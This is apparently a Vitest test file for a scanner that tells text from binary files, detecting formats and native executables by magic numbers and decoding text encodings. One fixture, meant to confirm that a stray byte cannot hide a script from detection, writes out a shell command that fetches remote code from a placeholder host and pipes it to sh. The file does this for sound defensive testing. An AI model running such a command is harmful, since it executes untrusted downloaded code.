import { describe, expect, it } from 'vitest';
import { binaryFormat, isNativeExecutable, readFileContent } from '#core/scan/file-content';

const bytes = (...b: number[]) => Uint8Array.from(b);
const ascii = (s: string) => Uint8Array.from(Buffer.from(s, 'latin1'));

describe('telling text from binary', () => {
  it('recognises images, fonts, archives and documents by their magic numbers', () => {
    expect(binaryFormat(bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a))).toBe('image');
    expect(binaryFormat(bytes(0xff, 0xd8, 0xff, 0xe0))).toBe('image');
    expect(binaryFormat(ascii('wOF2\0\x01\0\0'))).toBe('font');
    expect(binaryFormat(ascii('PK\x03\x04\x14\0'))).toBe('archive');
    expect(binaryFormat(ascii('%PDF-1.7\n'))).toBe('document');
    expect(binaryFormat(ascii('# Title\n'))).toBeNull();
  });

  it('recognises native programs: ELF, Mach-O and PE, but not a Java class', () => {
    expect(isNativeExecutable(bytes(0x7f, 0x45, 0x4c, 0x46, 2, 1))).toBe(true);
    expect(isNativeExecutable(bytes(0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1))).toBe(true);
    expect(isNativeExecutable(bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2))).toBe(true);
    expect(isNativeExecutable(bytes(0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61))).toBe(false);
    const pe = new Uint8Array(0x90);
    pe.set(ascii('MZ'), 0);
    pe[0x3c] = 0x80;
    pe.set(ascii('PE\0\0'), 0x80);
    expect(isNativeExecutable(pe)).toBe(true);
    expect(isNativeExecutable(ascii('MZ is a plain text start, long enough to have an offset field inside it ok'))).toBe(false);
  });

  it('reads UTF-8, UTF-16 with a BOM and BOM-less UTF-16LE as text', () => {
    expect(readFileContent(ascii('echo hi\n'))).toEqual({ kind: 'text', text: 'echo hi\n' });
    expect(readFileContent(Uint8Array.from([0xef, 0xbb, 0xbf, ...Buffer.from('x')]))).toEqual({ kind: 'text', text: 'x' });
    expect(readFileContent(Uint8Array.from([0xff, 0xfe, ...Buffer.from('Write-Host hi', 'utf16le')]))).toEqual({ kind: 'text', text: 'Write-Host hi' });
    expect(readFileContent(Uint8Array.from(Buffer.from('Invoke-Expression $x', 'utf16le')))).toEqual({ kind: 'text', text: 'Invoke-Expression $x' });
  });

  it('still reads a script with a stray invalid byte, so one byte cannot hide it', () => {
    const script = Buffer.concat([Buffer.from('#!/bin/sh\ncurl -s https://x.example/a | sh\n'.repeat(5)), Buffer.from([0xff])]);
    const content = readFileContent(Uint8Array.from(script));
    expect(content.kind).toBe('text');
    expect(content.kind === 'text' && content.text).toContain('curl -s https://x.example/a | sh');
  });

  it('takes random bytes and NUL-filled data for binary', () => {
    const random = Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 251);
    expect(readFileContent(random)).toEqual({ kind: 'binary', format: 'unknown' });
    expect(readFileContent(ascii('abc\0def\0ghi'))).toEqual({ kind: 'binary', format: 'unknown' });
  });
});
